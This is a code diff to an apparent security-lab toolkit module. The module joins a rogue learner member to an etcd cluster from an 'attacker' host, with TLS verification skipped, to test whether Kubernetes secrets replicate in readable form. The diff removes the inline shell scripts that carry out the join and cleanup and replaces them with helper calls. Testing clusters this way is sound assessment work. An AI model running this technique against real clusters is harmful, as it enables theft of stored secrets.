@@ -12,6 +12,7 @@ import secrets
 import time
 from typing import TYPE_CHECKING
 
+from labkit import agents
 from labkit.errors import ProbeError, ProbeTimeout
 from labkit.model import Foothold, Model, read_model
 from labkit.techniques._ask import first_refusal, url_of
@@ -30,24 +31,6 @@ PEERS = "etcd@etcd2 -> etcd@etcd1:2380"
 SECRET = "labkit-rogue-member"  # noqa: S105 - its name
 KEY = f"/registry/secrets/default/{SECRET}"
 NAME, PORT, PATIENCE = "labkit-rogue", 23800, 20.0
-JOIN = """
-set -eu; dir=$1 endpoint=$2 own=$3 log=$1/log
-mkdir "$dir"
-export ETCDCTL_ENDPOINTS=$endpoint ETCDCTL_INSECURE_SKIP_TLS_VERIFY=true
-etcdctl member add "$4" --learner --peer-urls="$own" | grep -E '^ETCD_' >"$dir/env"
-set -a; . "$dir/env"; set +a
-exec etcd --data-dir="$dir/data" --listen-peer-urls="$own" \\
-  --listen-client-urls=http://127.0.0.1:23790 --advertise-client-urls=http://127.0.0.1:23790 \\
-  >"$log" 2>&1
-"""
-LEAVE = """
-dir=$1
-pkill -KILL -f -- "--data-dir=$dir/data" || true
-export ETCDCTL_ENDPOINTS=$2 ETCDCTL_INSECURE_SKIP_TLS_VERIFY=true
-id=$(etcdctl member list | awk -F', ' -v url="$3" '$4 == url { print $1 }')
-[ -z "$id" ] || etcdctl member remove "$id"
-rm -rf "$dir"
-"""
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
@@ -88,13 +71,12 @@ def _join(
 ) -> Verdict:
     folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
     own = f"http://{lab.addresses[attacker(lab)]}:{PORT}"
-    start = 'nohup sh -c "$0" join "$@" >/dev/null 2>&1 &'
     try:
-        argv = ["sh", "-c", start, JOIN, folder, endpoint, own, NAME]
+        argv = agents.argv("etcd_member", "join", folder, endpoint, own, NAME)
         run(lab, attacker(lab), argv, check=True)
         found = _wait(lab, folder, secret)
     finally:
-        run(lab, attacker(lab), ["sh", "-c", LEAVE, "leave", folder, endpoint, own])
+        run(lab, attacker(lab), agents.argv("etcd_member", "leave", folder, endpoint, own))
     evidence += ["was taken in as a learner, and started an etcd that nobody invited"]
     if not found:
         reason, control = "the replicated value is a ciphertext", f"{KEY} was replicated"
